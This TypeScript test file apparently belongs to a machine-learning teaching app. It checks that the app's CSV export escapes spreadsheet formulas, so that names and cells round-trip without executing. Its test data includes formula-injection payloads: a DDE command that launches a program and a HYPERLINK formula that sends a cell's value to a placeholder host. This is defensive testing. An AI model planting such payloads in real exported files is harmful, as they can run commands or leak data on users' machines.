import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { csvComment, csvJson, csvLine, csvText, unescapedCell } from '../../../src/base/csv';
import { readTable } from '../../../src/data/tables/readTable';
import { parseResults, serializeResults } from '../../../src/schema/results';
import { parseSweep } from '../../../src/schema/sweep';

/** What Excel and LibreOffice run: a cell that starts with one of these signs and is no number. */
const runs = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && Number.isNaN(Number(cell));

const formulas = [
  '=1+1',
  '@SUM(A1)',
  '=HYPERLINK("http://x/?"&A1,"click")',
  '+1+1',
  '-2+3',
  "-cmd|' /C calc'!A0",
  '\t=1',
  '＝1+1',
];
const cellsOf = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true }).data;

describe('a formula in a name', () => {
  test.each(formulas)('%s does not run, and is read back as it was', (name) => {
    for (const text of [csvText([[name, 1]]), csvText([{ [name]: name }]), csvLine([name])]) {
      expect(cellsOf(text).flat().some(runs)).toBe(false);
      expect(cellsOf(text).flat().map(unescapedCell)).toContain(name);
    }
  });

  test('numbers stay numbers', () => {
    const numbers = [-1, '-0.25', '+3', '-1e-7', '1E+21', '-.5', '-Infinity'];
    expect(csvLine(numbers)).toBe('-1,-0.25,+3,-1e-7,1E+21,-.5,-Infinity\n');
  });

  test('any text comes back, and none runs', () => {
    const text = fc.oneof(
      fc.string(),
      fc.string({ unit: fc.constantFrom(...'\'=+-@\t"1,e. ') }),
      fc.constantFrom(...formulas, "'=1", "''=1", "'x"),
    );
    fc.assert(
      fc.property(fc.array(text, { minLength: 2, maxLength: 4 }), (row) => {
        const [cells] = Papa.parse<string[]>(csvText([row]), { delimiter: ',' }).data;
        expect(cells!.filter(runs)).toEqual([]);
        expect(cells!.map(unescapedCell)).toEqual(row);
      }),
      { numRuns: 500 },
    );
  });

  test('a table that we wrote is read with its class names as they were', () => {
    const names = ['=1+1', '@SUM(A1)'];
    const rows = Array.from({ length: 12 }, (_, i) => ({ x: i / 7, kind: names[i % 2]! }));
    const reading = readTable(csvText(rows), { target: 'kind' }, 'own.csv');
    expect(reading.classes.map(({ name }) => name).sort()).toEqual([...names].sort());
  });

  test('comment lines hold no cell that runs', () => {
    const line = csvComment('Loss, =1+1;@SUM(A1),-2+3');
    expect(line.split(/[,;\t]/).filter((cell) => runs(cell.trim()))).toEqual([]);
    expect(csvComment('two\r\nlines')).toBe('# two lines');
  });

  test('the sweep in a results file neither runs nor changes', () => {
    const sweep = parseSweep({
      format: 'gradient-lab/sweep',
      version: 1,
      name: 'a,=1+1,@SUM(A1),-2+3,+4',
      experiment: {
        format: 'gradient-lab/experiment',
        version: 1,
        data: { kind: 'moons' },
        network: { depth: 1, width: 2, activation: 'relu' },
      },
      axes: [{ field: 'network.depth', spacing: 'linear', from: 1, to: 2, count: 2 }],
    });
    const text = serializeResults(sweep, []);
    const [first] = text.split('\n');
    expect(first!.split(/[,;\t]/).filter(runs)).toEqual([]);
    expect(parseResults(text, 'r.csv').sweep).toEqual(sweep);
    const list = { values: [1, -2, -3.5e-7], text: ',-1,' };
    expect(JSON.parse(csvJson(list))).toEqual(list);
  });
});
